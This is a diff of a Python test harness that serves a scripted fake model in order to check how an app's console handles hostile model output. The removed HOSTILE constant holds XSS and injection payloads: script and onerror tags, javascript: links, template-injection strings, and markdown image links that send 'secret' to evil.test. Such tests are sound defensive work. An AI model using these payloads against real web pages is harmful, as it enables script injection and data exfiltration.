@@ -22,15 +22,11 @@ from app.services.retrieval.embedder import MiniLmEmbedder
 from app.settings import Settings
 from graphs.errors import UpstreamTimeout
 from graphs.types import ModelRequest, ToolProposal
+from tests.console.hostile import ATTACK
 
 OWNER_KEY = "an-owner-key-of-more-than-32-characters"
+HANDBOOK = Path(workbench.__file__).with_name("handbook")  # not workbench.PAGES, which another server may have replaced
 PAGES = ("concepts-approvals", "concepts-answer-card", "concepts-tenants-keys")
-HOSTILE = (
-    "<img src=x onerror=window.stolen=1><script>window.stolen=2</script> ![leak](http://evil.test/a.png?d=secret) "
-    "![by reference][pic] [run](javascript:window.stolen=3) [go](https://elsewhere.test/x?d=secret) "
-    "<svg onload=window.stolen=4> ${window.stolen=5} {{constructor.constructor('window.stolen=6')()}} "
-    "<div style='background:url(http://evil.test/c.png)'>end</div>\n\n[pic]: http://evil.test/b.png"
-)
 
 
 @dataclass
@@ -51,7 +47,7 @@ class Script:
             return Say(tool_calls=(ToolProposal("x", "create_ticket", arguments),))
         if "fail" in asked:
             return UpstreamTimeout("the model did not answer within 30 s")
-        return HOSTILE if "hostile" in asked else "Hello from the script."
+        return ATTACK if "hostile" in asked else "Hello from the script."
 
 
 @dataclass
@@ -73,13 +69,13 @@ class Served:
 
 @contextmanager
 def served(home: Path, embedder: MiniLmEmbedder) -> Iterator[Served]:
-    settings = Settings.offline(home, owner_key=OWNER_KEY, export_traces=False, reattach_grace_s=2)
+    settings = Settings.offline(home, owner_key=OWNER_KEY, export_traces=False, reattach_grace_s=10)
     script, ready = Script(), threading.Event()
     found: dict[str, Any] = {}
     pages = home / "pages"
     pages.mkdir()
     for name in PAGES:
-        (pages / f"{name}.md").write_bytes((workbench.PAGES / f"{name}.md").read_bytes())
+        (pages / f"{name}.md").write_bytes((HANDBOOK / f"{name}.md").read_bytes())
 
     @asynccontextmanager
     async def lifespan(api: FastAPI) -> AsyncIterator[None]:
